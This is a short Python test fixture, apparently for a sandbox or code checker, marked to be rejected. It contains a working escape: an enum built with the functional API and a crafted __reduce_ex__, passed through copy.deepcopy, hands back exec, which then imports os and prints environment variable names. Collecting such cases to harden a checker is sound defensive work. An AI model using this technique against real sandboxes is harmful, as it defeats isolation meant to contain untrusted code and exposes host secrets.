# expect: reject class
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# Mechanism: enum's functional API with literal names, but none: Enum("Base", "")
#   is an enum class without members bound by an assignment, not a class statement,
#   so its name is no enum class to the checker; called with (name, mapping) it
#   builds a class holding __reduce_ex__.
# Goal reached: exec obtained as a value; printed the environment.
import copy
import enum
import typing


def red(self, proto):
    return (typing.List.copy_with, (("exec",),), {"_name": "__builtins__"})


Base = enum.Enum("Base", "")
E = Base("E", {"X": 1, "__deepcopy__": None, "__reduce_ex__": red})
ex = copy.deepcopy(copy.deepcopy(E.X))
ex("import os\nprint(sorted(os.environ)[:3])")
